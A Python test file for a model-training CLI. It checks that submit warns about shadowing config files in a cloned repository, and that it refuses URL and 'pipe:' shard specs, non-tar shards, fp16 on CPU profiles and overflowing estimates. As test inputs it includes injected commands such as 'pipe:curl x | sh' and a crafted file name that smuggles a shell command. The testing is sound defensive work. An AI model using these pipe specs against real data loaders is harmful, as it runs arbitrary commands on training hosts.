"""Hostile input at submit (issue 24 points 4 and 7): a cloned repository's ./configs or
./cluster_profiles that shadows a shipped file is said, naming both files; shard specs the trainer
cannot read (URLs, `pipe:` commands, files that are not tars) and fp16 under DeepSpeed on a CPU
profile are refused before sbatch in one line, as the trainer would refuse them after queueing;
`estimate` refuses figures that overflow instead of printing inf or nan. Each case was accepted by the
code before (a silent shadowing, a pipe command run in the job, a job refused after queueing, inf)."""

from __future__ import annotations

import json
import os
import re
import shutil
import tarfile
from pathlib import Path

import pytest

from tests.conftest import REPO, dry_run_exit, one_line_error, run_cli, trainer_shards
from vltrain.data.shard_spec import empty_tar, tar_problem, url_problem, url_scheme


def clone(tmp_path: Path, *what: str) -> Path:
    """A working directory (a cloned repository) with copies of the shipped local profile and/or tiny recipe."""
    cwd = tmp_path / "clone"
    if "profile" in what:
        (cwd / "cluster_profiles").mkdir(parents=True)
        shutil.copy(REPO / "cluster_profiles" / "local.toml", cwd / "cluster_profiles" / "local.toml")
    if "recipe" in what:
        (cwd / "configs").mkdir(parents=True)
        shutil.copy(REPO / "configs" / "tiny.toml", cwd / "configs" / "tiny.toml")
    cwd.mkdir(exist_ok=True)
    return cwd


SHADOW = {  # kind -> (the line's start, the shadowing file under the clone, the shipped file's tail)
    "profile": ("warning: profile local: ", "cluster_profiles/local.toml", "/cluster_profiles/local.toml"),
    "recipe": ("warning: recipe tiny: ", "configs/tiny.toml", "/configs/tiny.toml"),
}


def shadow_lines(text: str, cwd: Path, kind: str) -> list[str]:
    start, mine, shipped = SHADOW[kind]
    text = text.replace("\n  ", " ")  # a warning longer than COLUMNS is folded at spaces, next lines indented
    pattern = rf"{re.escape(start + str(cwd / mine))} shadows the shipped (\S+{re.escape(shipped)}) "
    return [m.group(1) for line in text.splitlines() if (m := re.match(pattern, line))]


# --- 4. a recipe or profile from the working directory that shadows a shipped one ------------------
@pytest.mark.parametrize("kind", ["profile", "recipe"])
def test_a_shadowing_file_is_said_in_the_dry_run_naming_both_paths(env, tmp_path, kind):
    cwd = clone(tmp_path, kind)
    r = run_cli("submit", "--profile", "local", "--dry-run", env=env, cwd=cwd)
    dry_run_exit(r)
    (shipped,) = shadow_lines(r.stdout, cwd, kind)
    assert Path(shipped).is_file() and Path(shipped).resolve() != (cwd / SHADOW[kind][1]).resolve()
    other = "recipe" if kind == "profile" else "profile"
    assert shadow_lines(r.stdout, cwd, other) == []  # only what is shadowed is said


@pytest.mark.parametrize("kind", ["profile", "recipe"])
def test_nothing_is_said_without_a_shadow_or_with_the_path_given(env, tmp_path, kind):
    r = run_cli("submit", "--profile", "local", "--dry-run", env=env, cwd=clone(tmp_path))
    dry_run_exit(r)
    assert "shadows the shipped" not in r.stdout, r.stderr
    cwd = clone(tmp_path, kind)
    given = (
        ("--profile", str(cwd / "cluster_profiles" / "local.toml"))
        if kind == "profile"
        else ("--profile", "local", "--config", str(cwd / "configs" / "tiny.toml"))
    )
    r = run_cli("submit", *given, "--dry-run", env=env, cwd=cwd)
    dry_run_exit(r)
    assert "shadows the shipped" not in r.stdout, r.stderr


def test_a_refusal_is_the_only_line_even_with_a_shadow(env, tmp_path):
    cwd = clone(tmp_path, "profile", "recipe")
    r = run_cli("submit", "--profile", "local", "--set", "data.shards=missing", env=env, cwd=cwd)
    one_line_error(r, f"error: data.shards: {cwd / 'missing'} does not exist")


@pytest.fixture(scope="module")
def data(tmp_path_factory) -> Path:
    return trainer_shards(tmp_path_factory.mktemp("data"), holdout=0)


def test_a_shadowing_file_is_said_at_submit(env, tmp_path, data):
    cwd = clone(tmp_path, "profile", "recipe")
    sets = ("--set", f"data.shards={data / 'shards'}", "--set", f"data.tokenizer={data / 'tok.model'}")
    args = ("submit", "--profile", "local", *sets, "--steps", "1", "--max-retries", "0", "--name", "shadowed")
    r = run_cli(*args, env=env, cwd=cwd)
    try:
        assert r.returncode == 0, r.stderr
        assert len(shadow_lines(r.stderr, cwd, "profile")) == 1 and len(shadow_lines(r.stderr, cwd, "recipe")) == 1
    finally:
        run_cli("cancel", "shadowed", env=env, cwd=cwd)  # stop the run it started, also when it failed


# --- 4, 7. shard specs the trainer cannot read -------------------------------------------------------
URLS = [
    "pipe:touch {marker}",
    " pipe:touch {marker}",
    "s3://bucket/shards/{{00000..00003}}.tar",
    "gs://bucket/00000.tar",
    "http://example.org/00000.tar",
    "https://example.org/{{00000..00001}}.tar",
    "HTTPS://example.org/00000.tar",
    "sftp://host/00000.tar",
    "file:///tmp/00000.tar",
]


@pytest.mark.parametrize("key", ["data.shards", "data.eval_shards"])
@pytest.mark.parametrize("spec", URLS)
def test_url_and_pipe_shard_specs_are_refused_before_sbatch(env, tmp_path, spec, key):
    marker = tmp_path / "ran"
    spec = spec.format(marker=marker)
    other = () if key == "data.shards" else ("--set", "data.shards=/nonexistent")
    r = run_cli("submit", "--profile", "local", "--set", f"{key}={spec}", *other, "--steps", "1", env=env, cwd=tmp_path)
    one_line_error(r, f"error: {key}: {spec[:80]!r} ")
    assert "the trainer reads shards by random access from local files only" in r.stderr
    assert not marker.exists() and not list((tmp_path / "runs").glob("*"))  # nothing ran, nothing written


def test_a_pipe_spec_that_is_also_a_file_in_the_clone_is_refused(env, tmp_path):
    """The attack of the issue: a relative path that webdataset reads as a pipe command, made to exist."""
    marker = tmp_path / "ran"
    spec = f"pipe:touch {marker}; cat x.tar"
    cwd = clone(tmp_path)
    (cwd / spec).parent.mkdir(parents=True)
    shutil.copy(REPO / "configs" / "tiny.toml", cwd / spec)  # any file: resolve_shards only asks is_file
    r = run_cli("submit", "--profile", "local", "--set", f"data.shards={spec}", env=env, cwd=cwd)
    one_line_error(r, "error: data.shards: 'pipe:touch ")
    assert not marker.exists()


def test_every_scheme_webdataset_opens_is_refused_and_paths_are_not():
    """url_scheme reads a spec as webdataset's gopen does (urllib): each scheme gopen has a handler for
    is refused; absolute, relative and ./-prefixed paths with a colon are paths."""
    from webdataset.gopen import gopen_schemes  # type: ignore[import-untyped]

    schemes = [s for s in gopen_schemes if not s.startswith("_")]
    assert {"pipe", "http", "https", "gs"} <= set(schemes)
    for scheme in schemes:
        assert url_problem(f"{scheme}://host/x.tar", "data.shards"), scheme
        assert url_problem(f"{scheme}:x.tar", "data.shards"), scheme
    for path in ("/data/shards", "data/shards", "./data:2024/x.tar", "{00000..00003}.tar", "a/b:c.tar"):
        assert url_scheme(path) == "" and url_problem(path, "data.shards") is None, path
    assert url_scheme("http://[::1/x.tar") == "http"  # urllib raises on the netloc; still a URL


def test_a_shard_file_named_like_a_pipe_is_read_as_a_file(tmp_path, monkeypatch):
    """A clone's file 'pipe:CMD.tar', globbed from '.' (`vltrain tokenizer train --shards .`): webdataset
    read the bare name as a pipe and ran CMD; the shard readers hand it absolute paths."""
    from vltrain.data.shards import iter_samples, resolve_shards

    monkeypatch.chdir(tmp_path)
    trap = tmp_path / "pipe:touch ran; cat x.tar"
    with tarfile.open(trap, "w") as t:
        info = tarfile.TarInfo("0.txt")
        t.addfile(info)
    (path,) = resolve_shards(".")
    assert str(path).startswith("pipe:")  # what glob gives: the name webdataset would take for a URL
    assert [s["__key__"] for s in iter_samples([path])] == ["0"]  # read as the tar it is
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("key", ["shards", "eval_shards"])
def test_the_trainer_refuses_a_url_spec_itself(key):
    """vltrain.support.not_run_yet, which the trainer checks at start before it reads a shard (so a
    `vltrain train` run by hand never hands a pipe: spec to webdataset) and submit refuses from."""
    import dataclasses

    from vltrain.config import TrainConfig
    from vltrain.support import not_run_yet

    cfg = TrainConfig()
    cfg = dataclasses.replace(cfg, data=dataclasses.replace(cfg.data, **({"shards": "/d"} | {key: "pipe:curl x | sh"})))
    (line,) = not_run_yet(cfg)
    assert line.startswith(f"data.{key}: 'pipe:curl x | sh' would run a shell command")


# --- 7. a shard that is not a tar ---------------------------------------------------------------------
def _gzip_tar(path: Path) -> None:
    member = path.with_suffix(".txt")
    member.write_text("caption")
    with tarfile.open(path, "w:gz") as t:
        t.add(member, arcname="0.txt")


NOT_TARS = {
    "empty file": lambda p: p.write_bytes(b""),
    "random bytes": lambda p: p.write_bytes(os.urandom(4096)),
    "text": lambda p: p.write_text("not a tar\n" * 100),
    "gzip-compressed tar": _gzip_tar,
    "fifo": lambda p: os.mkfifo(p),
}


@pytest.mark.parametrize("case", sorted(NOT_TARS))
def test_a_shard_that_is_not_a_tar_is_refused_before_sbatch(env, tmp_path, case):
    shards = tmp_path / "shards"
    shards.mkdir()
    NOT_TARS[case](shards / "00000.tar")
    r = run_cli("submit", "--profile", "local", "--set", f"data.shards={shards}", env=env, cwd=tmp_path)
    one_line_error(r, f"error: data.shards: {shards / '00000.tar'} is not a ")
    assert not list((tmp_path / "runs").glob("*"))


def test_a_default_held_out_shard_that_is_not_a_tar_is_refused(env, tmp_path, data):
    """Without data.eval_shards the trainer evaluates on <data.shards>/eval (at the first evaluation, hours
    in): its shards are checked too."""
    shards = tmp_path / "shards"
    shutil.copytree(data / "shards", shards)
    (shards / "eval").mkdir(exist_ok=True)
    (shards / "eval" / "00000.tar").write_bytes(os.urandom(2048))
    sets = ("--set", f"data.shards={shards}", "--set", f"data.tokenizer={data / 'tok.model'}")
    r = run_cli("submit", "--profile", "local", *sets, env=env, cwd=tmp_path)
    one_line_error(r, f"error: data.eval_shards: {shards / 'eval' / '00000.tar'} is not a tar")


def test_the_tar_check_agrees_with_the_trainers_reader(tmp_path):
    """tar_problem refuses exactly the files the trainer's index (vltrain.data.shards) cannot read."""
    from vltrain.common.errors import UserError
    from vltrain.data.shards import index_shard

    for case, make in NOT_TARS.items():
        if case == "fifo":
            continue  # the trainer's reader would block on it: the reason it is refused
        path = tmp_path / f"{case}.tar"
        make(path)
        assert tar_problem(path, "data.shards"), case
        with pytest.raises(UserError):
            index_shard(path)
    ok = tmp_path / "ok.tar"
    with tarfile.open(ok, "w") as t:
        t.add(tmp_path / "text.tar", arcname="0.txt")
    empty = tmp_path / "none.tar"
    tarfile.open(empty, "w").close()
    for path in (ok, empty):
        assert tar_problem(path, "data.shards") is None and len(index_shard(path)) == 0
    assert empty_tar(empty) and not empty_tar(ok)


def test_shards_that_hold_no_sample_are_refused(env, tmp_path):
    shards = tmp_path / "shards"
    shards.mkdir()
    for i in range(2):
        tarfile.open(shards / f"{i:05d}.tar", "w").close()
    r = run_cli("submit", "--profile", "local", "--set", f"data.shards={shards}", env=env, cwd=tmp_path)
    one_line_error(r, f"error: data.shards: {shards} holds no samples")


def _loader_refuses(shards: Path, train: bool, ranks: int) -> bool:
    """Whether the trainer's loader refuses these shards on any of `ranks` data-parallel ranks."""
    from vltrain.common.errors import UserError
    from vltrain.data.loader import ShardLoader

    for rank in range(ranks):
        try:
            ShardLoader(str(shards), rank=rank, world_size=ranks, batch_size=1, seed=0, image_size=32,
                        tokenizer=None, max_len=8, train=train)  # fmt: skip
        except UserError:
            return True
    return False


@pytest.mark.parametrize("n, shards, holdout", [(1, 1, 0), (3, 2, 0), (4, 2, 1), (4, 2, 2)])
def test_a_rank_without_a_sample_is_refused(env, tmp_path, n, shards, holdout):
    """slurm-local has 2 data-parallel ranks; submit refuses exactly what the loader refuses on one of them
    (a rank with no sample, at start or at the first evaluation), counting from the writer's stats files."""
    from vltrain.data.synth import write_synthetic_shards

    data = tmp_path / "d"
    write_synthetic_shards(data, n=n, shards=shards, seed=0, image_size=32, holdout=holdout)
    expected = [key for key, path, train in (("data.shards", data, True), ("data.eval_shards", data / "eval", False))
                if path.is_dir() and any(path.glob("*.tar")) and _loader_refuses(path, train, 2)]  # fmt: skip
    sets = ("--set", f"data.shards={data}", "--set", "data.tokenizer=")
    r = run_cli("submit", "--profile", "slurm-local", *sets, "--dry-run", "--json", env=env, cwd=tmp_path)
    dry_run_exit(r)
    said = [p for p in json.loads(r.stdout)["checks"]["problems"] if "data-parallel ranks would get none" in p]
    assert [p.split(":")[0] for p in said] == expected, said
    assert expected or (n, holdout) != (1, 0)  # the cases do include refusals


# --- 7. fp16 under DeepSpeed on a CPU profile ----------------------------------------------------------
def _cpu_runs_deepspeed_fp16() -> bool:
    from clusterctl.runs.preflight import FP16_CPU_FLAGS, cpu_flags

    return bool(cpu_flags() & FP16_CPU_FLAGS)


@pytest.mark.parametrize(
    "profile, sets, refused",
    [
        ("local", ("precision=fp16",), not _cpu_runs_deepspeed_fp16()),
        ("slurm-local", ("precision=fp16",), True),
        ("local", ("precision=fp16", "parallel.strategy=fsdp"), False),
        ("slurm-local", ("precision=fp16", "parallel.strategy=fsdp"), False),
        ("local", ("precision=bf16",), False),
    ],
)
def test_fp16_under_deepspeed_on_a_cpu_profile_is_refused(env, tmp_path, profile, sets, refused):
    args = [a for s in sets for a in ("--set", s)]
    r = run_cli("submit", "--profile", profile, *args, "--dry-run", "--json", env=env, cwd=tmp_path)
    dry_run_exit(r)
    said = [p for p in json.loads(r.stdout)["checks"]["problems"] if p.startswith("precision: fp16")]
    assert bool(said) == refused, said
    if refused:
        r = run_cli("submit", "--profile", profile, *args, env=env, cwd=tmp_path)
        one_line_error(r, f"error: precision: fp16 under parallel.strategy 'deepspeed' on the CPU profile {profile} ")


def test_a_cuda_profile_on_the_local_executor_needs_cuda_here(env, tmp_path):
    """The trainer refuses a CUDA profile where torch sees no CUDA (vltrain.distenv.resolve_device); a local
    profile runs on this machine, so submit asks torch here."""
    import torch

    src = (REPO / "cluster_profiles" / "local.toml").read_text()
    path = tmp_path / "localgpu.toml"
    path.write_text(src.replace('kind = "cpu"', 'kind = "cuda"').replace('name = "local"', 'name = "localgpu"'))
    r = run_cli("submit", "--profile", str(path), "--dry-run", "--json", env=env, cwd=tmp_path)
    dry_run_exit(r)
    said = [p for p in json.loads(r.stdout)["checks"]["problems"] if p.startswith("gpu.kind: cuda")]
    assert bool(said) == (not torch.cuda.is_available()), said
    if said:
        one_line_error(run_cli("submit", "--profile", str(path), env=env, cwd=tmp_path), "error: gpu.kind: cuda, but ")


def test_the_cpu_flags_agree_with_deepspeeds_accelerator():
    """preflight's reading of /proc/cpuinfo gives DeepSpeed's answer on this machine (what the trainer asks)."""
    from deepspeed.accelerator.cpu_accelerator import CPU_Accelerator

    assert bool(CPU_Accelerator().is_fp16_supported()) == _cpu_runs_deepspeed_fp16()  # None when not


# --- 7. estimate figures that overflow ------------------------------------------------------------------
DIGITS = "9" * 400


@pytest.mark.parametrize(
    "args, starts",
    [
        (
            ("--duration", f"{DIGITS}h"),
            "error: --duration: 99999999999999999999... (401 characters) is inf h; allowed:",
        ),
        (("--hours", "1", "--claimed-duration", f"{DIGITS}d"), "error: --claimed-duration: 9999"),
        (("--duration", "115y"), "error: --duration: 115y is 1.01e+06 h; allowed: a wall time > 0 and <= 1,000,000 h"),
        (("--hours", "1e308"), "error: --hours: 1e+308 is not valid; allowed: a finite number > 0 and <= 1,000,000"),
        (("--gpu-hours", "1e308"), "error: --gpu-hours: 1e+308 is not valid"),
        (("--hours", "1", "--claimed-gpu-hours", "1e308"), "error: --claimed-gpu-hours: 1e+308 is not valid"),
        (("--hours", "1", "--claimed-energy-mwh", "1e308"), "error: --claimed-energy-mwh: 1e+308 is not valid"),
        (("--hours", "1", "--claimed-co2-t", "1e308"), "error: --claimed-co2-t: 1e+308 is not valid"),
        (("--gpus", DIGITS, "--hours", "1"), "error: --gpus: 99999999999999999999... (400 characters) is not valid"),
        (
            ("--samples", "1e29", "--epochs", "1e6", "--model", "tiny", "--mfu", "1e-300"),
            "error: estimate: the work comes to inf GPU-hours; allowed: at most 1e+12",
        ),
    ],
)
def test_estimate_figures_that_overflow_are_refused(args, starts):
    r = run_cli("estimate", "--profile", "local", *args)
    one_line_error(r, starts)
    assert "allowed:" in r.stderr


def test_the_longest_allowed_estimate_is_finite():
    r = run_cli("estimate", "--profile", "local", "--duration", "114y")
    assert r.returncode == 0 and not re.search(r"\b(inf|nan)\b", r.stdout), r.stdout + r.stderr
